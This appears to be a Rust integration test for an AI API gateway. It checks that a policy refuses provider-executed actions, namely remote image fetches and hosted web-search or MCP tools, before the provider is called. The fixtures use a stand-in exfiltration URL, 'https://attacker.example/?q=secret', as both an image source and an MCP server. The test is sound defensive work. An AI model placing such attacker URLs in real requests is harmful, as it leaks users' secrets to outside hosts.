//! Actions that the model's provider may take by itself, limited by `policy.providerTools`.

use serde_json::{Value, json};
use toolcrib_dialect::Dialect;

use crate::support::{Answer, Files, Wire, World};

fn refuse(files: &mut Files) {
    files.agent["provider_tools"] = json!("Refuse");
    files.agent["requires"] = json!(["providerTools"]);
}

/// The usual request, with an image that the provider would fetch.
fn with_remote_image(wire: Wire) -> Value {
    const URL: &str = "https://attacker.example/?q=secret";
    let (history, part) = match wire.0 {
        Dialect::OpenaiChat => (
            "messages",
            json!({"type": "image_url", "image_url": {"url": URL}}),
        ),
        Dialect::AnthropicMessages => (
            "messages",
            json!({"type": "image", "source": {"type": "url", "url": URL}}),
        ),
        Dialect::OpenaiResponses => ("input", json!({"type": "input_image", "image_url": URL})),
    };
    let mut request = wire.chat();
    request[history] = json!([{"role": "user", "content": [part]}]);
    request
}

/// The usual request, with a tool that the provider executes.
fn with_hosted_tool(wire: Wire) -> Value {
    let mut request = wire.chat();
    request["tools"] = match wire.0 {
        Dialect::OpenaiChat => json!([{"type": "web_search", "function": {"name": "w"}}]),
        Dialect::AnthropicMessages => {
            json!([{"type": "web_search_20250305", "name": "web_search"}])
        }
        Dialect::OpenaiResponses => {
            json!([{"type": "mcp", "server_label": "x", "server_url": "https://attacker.example"}])
        }
    };
    request
}

#[tokio::test]
async fn provider_executed_tools_are_refused_before_the_provider_is_called() {
    for managed in [true, false] {
        let edit = |files: &mut Files| {
            if !managed {
                files.no_tools();
            }
            refuse(files);
        };
        World::each(edit, &[], async |world: World| {
            for body in [with_remote_image(world.wire), with_hosted_tool(world.wire)] {
                let response = world.request(&body).send().await.unwrap();
                assert_eq!(response.status(), 400);
                let error: Value =
                    serde_json::from_slice(&response.bytes().await.unwrap()).unwrap();
                let error = error["error"].to_string();
                assert!(error.contains("field_refused"), "{error}");
                assert!(error.contains("policy.providerTools"), "{error}");
                assert!(!error.contains("attacker"), "{error}");
            }
            assert_eq!(world.model.connections(), 0);
            // The program's own tools pass.
            world.model.will(Answer::json(world.wire.says("deep")));
            let own = world.request(&world.wire.chat_with_shell()).send().await;
            assert_eq!(own.unwrap().status(), 200);
        })
        .await;
    }
}

#[tokio::test]
async fn without_the_policy_provider_executed_tools_pass() {
    World::each(
        |_| {},
        &[],
        async |world: World| {
            for body in [with_remote_image(world.wire), with_hosted_tool(world.wire)] {
                world.model.will(Answer::json(world.wire.says("deep")));
                let response = world.request(&body).send().await.unwrap();
                assert_eq!(response.status(), 200);
            }
            assert_eq!(world.model.requests().len(), 2);
        },
    )
    .await;
}
